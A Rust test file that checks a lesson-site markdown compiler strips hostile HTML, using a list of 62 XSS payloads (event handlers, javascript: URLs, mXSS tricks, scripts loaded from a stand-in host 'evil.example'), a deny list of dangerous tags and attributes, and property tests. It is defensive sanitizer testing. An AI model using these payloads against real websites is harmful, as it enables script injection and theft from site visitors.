//! Lessons written to do harm: nothing of them may run, and nothing may panic.

use pretune::site::lesson::claims::Claims;
use pretune::site::lesson::{self, Options, check, page};
use proptest::prelude::*;
use scraper::Html;

const FRONT: &str = "---\ntitle: T\nslug: s\ndescription: D\n---\n\n";

/// One attack a line: from OWASP's filter evasion list, mXSS papers, and our own tags.
const ATTACKS: [&str; 62] = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script type=\"text/plain\">x</script><script>alert(1)</script>",
    "<script type=\"text/plain\"><!-- <script> --></script>alert(1)</script>",
    "<script type=\"text/plain\" src=\"//evil.example\">x</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"javascript:alert(1)\">",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img/src=`x`onerror=alert(1)>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<base href=\"javascript:alert(1)//\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\" type=submit>x</button>",
    "<input type=password name=p autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select onchange=alert(1)><option>x</option></select>",
    "<video src=x onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1) src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java&#x09;script:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
    "<a href=\"vbscript:x\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=x style=\"position:fixed;inset:0\">x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](y)",
    "[x](y \"\\\" onmouseover=\\\"alert(1)\")",
    "# x {#y\"onclick=\"alert(1)}",
    "```x\" onclick=\"alert(1)\ny\n```",
    "<pretune-next-token onclick=alert(1) model=\"javascript:alert(1)\">x</pretune-next-token>",
    "<pretune-next-token><script>alert(1)</script></pretune-next-token>",
    "<pretune-evil src=x>x</pretune-evil>",
    "<p id=\"pretune-wasm\">x</p><p id=main>y</p>",
    "<data value=\"0\">x</data><data value=\"99999999999999999999\"></data>",
    "</article></main></body><body onload=alert(1)>",
    "[^x]\n\n[^x]: <img src=x onerror=alert(1)>",
];

/// The first thing in a parsed page that could act, if any.
fn danger(html: &Html) -> Option<String> {
    let elements = html.tree.nodes().filter_map(scraper::ElementRef::wrap);
    let acts = |e: &scraper::ElementRef| {
        let name = e.value().name();
        let forbidden = [
            "style",
            "iframe",
            "object",
            "embed",
            "link",
            "base",
            "meta",
            "form",
            "svg",
            "math",
            "template",
            "textarea",
            "select",
            "video",
            "audio",
            "noscript",
            "marquee",
            "pretune-evil",
        ];
        let is_script = name == "script" && e.value().attrs().ne([("type", "text/plain")]);
        let bad_attribute = e.value().attrs().any(|(attribute, value)| {
            let value: String = value.chars().filter(|c| !c.is_control() && !c.is_whitespace()).collect();
            let value = value.to_ascii_lowercase();
            attribute.starts_with("on")
                || matches!(
                    attribute,
                    "style" | "srcdoc" | "formaction" | "xlink:href" | "action" | "autofocus"
                )
                || ["javascript:", "vbscript:", "data:"].iter().any(|s| value.starts_with(s))
                || (attribute == "id" && (value.starts_with("pretune-") || value == "main"))
                || (name == "input" && attribute == "type" && value != "checkbox")
                || (name == "button" && attribute == "type" && value != "button")
        });
        forbidden.contains(&name) || is_script || bad_attribute
    };
    elements.into_iter().find(acts).map(|e| e.html())
}

fn body(markdown: &str) -> String {
    match lesson::compile("lesson.md", &format!("{FRONT}{markdown}\n"), &Options::default()) {
        Ok(lesson) => lesson.body,
        Err(_) => String::new(),
    }
}

#[test]
fn no_attack_survives_alone_or_inside_other_text() {
    for attack in ATTACKS {
        let settings = [
            attack.to_owned(),
            format!("text {attack} text"),
            format!("- item\n\n  {attack}"),
            format!("> {attack}"),
            format!("| a |\n|---|\n| {attack} |"),
            format!("## {attack}"),
            format!("<pretune-next-token>\n\n{attack}\n\n</pretune-next-token>"),
            format!("<!-- component:table:peft-methods -->\n\n{attack}"),
        ];
        for markdown in settings {
            let html = body(&markdown);
            let found = danger(&Html::parse_fragment(&html));
            assert_eq!(found, None, "{markdown:?} became {html:?}");
        }
    }
}

#[test]
fn the_danger_test_knows_danger() {
    for harmful in
        ["<p onclick=x>", "<a href=' JavaScript:x'>", "<script>x</script>", "<b style=x>", "<p id=main>"]
    {
        assert!(danger(&Html::parse_fragment(harmful)).is_some(), "{harmful}");
    }
    assert_eq!(danger(&Html::parse_fragment("<script type=\"text/plain\">x</script><a href=x>y</a>")), None);
}

#[test]
fn front_matter_is_text_wherever_it_is_shown() {
    let attack = "\\\"><img src=x onerror=alert(1)>";
    let text = format!(
        "---\ntitle: \"{attack}\"\nslug: s\ndescription: \"{attack}\"\nauthor: \"{attack}\"\nestimatedTime: \"{attack}\"\n\
         tags: [\"{attack}\"]\nrelated: [\"{attack}\"]\nprerequisites: [\"{attack}\"]\nglossary:\n  word: \"{attack}\"\n---\n\nA word.\n"
    );
    let lesson = lesson::compile("lesson.md", &text, &Options::default()).expect("it is well formed");
    let titles = |_: &str| Some("<img src=x onerror=alert(1)>".to_owned());
    for page in [
        page::lesson(&lesson, &page::Assets::default(), &titles),
        page::index(&[&lesson], &page::Assets::default()),
        page::notice("<img onerror=x>", "<script>", &page::Assets::default()),
    ] {
        assert!(!page.contains("<img") && !page.contains("<script"), "{page}");
    }
}

/// Pieces that are likely to upset the compiler, in any order.
fn markdown() -> impl Strategy<Value = String> {
    let pieces = prop_oneof![
        3 => prop::sample::select(ATTACKS.to_vec()).prop_map(str::to_owned),
        6 => prop::sample::select(vec![
            "\n", "\n\n", "- ", "- [ ] ", "  ", "    ", "> ", "# ", "### ", "| a | b |\n|---|---|\n| c |", "```", "~~", "**",
            "[^a]", "[^a]: ", "---\n", "<!-- component:table:peft-methods -->", "<!-- component:summary -->",
            "<!-- /component -->", "{/* component:example:next-token */}", "<!-- component:", "Table: x\n\n", "![", "](", ")",
            "<pretune-next-token seed=\"1\">", "</pretune-next-token>", "<data value=\"0\">", "\u{feff}", "\u{202e}", "\0", "é",
            "&#0;", "1. ", "99999999999. ", "> [!NOTE]\n", "word",
        ]).prop_map(str::to_owned),
        2 => "\\PC{0,20}",
    ];
    prop::collection::vec(pieces, 0..30).prop_map(|p| p.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    #[test]
    fn the_compiler_is_safe_and_repeats_itself(markdown in markdown(), front in prop::option::of("[a-z]{1,8}: \\PC{0,20}\n")) {
        let text = format!("---\ntitle: T\nslug: s\ndescription: D\nglossary:\n  word: x\n{}---\n{markdown}", front.unwrap_or_default());
        let compile = || lesson::compile("lesson.md", &text, &Options::default());
        let findings = || check::check("lesson.md", &text, &Claims::default()).findings;
        let first = compile();
        prop_assert_eq!(&first, &compile());
        prop_assert_eq!(findings(), findings());
        if let Ok(lesson) = first {
            prop_assert_eq!(danger(&Html::parse_fragment(&lesson.body)), None);
        }
    }

    #[test]
    fn any_text_at_all_is_answered(text in "(---\n)?\\PC{0,200}(\n---\n)?\\PC{0,200}") {
        let compiled = lesson::compile("lesson.md", &text, &Options::default());
        if let Err(errors) = compiled {
            prop_assert!(errors.iter().all(|e| e.to_string().starts_with("lesson.md:")));
        }
        check::check("lesson.md", &text, &Claims::default());
    }
}
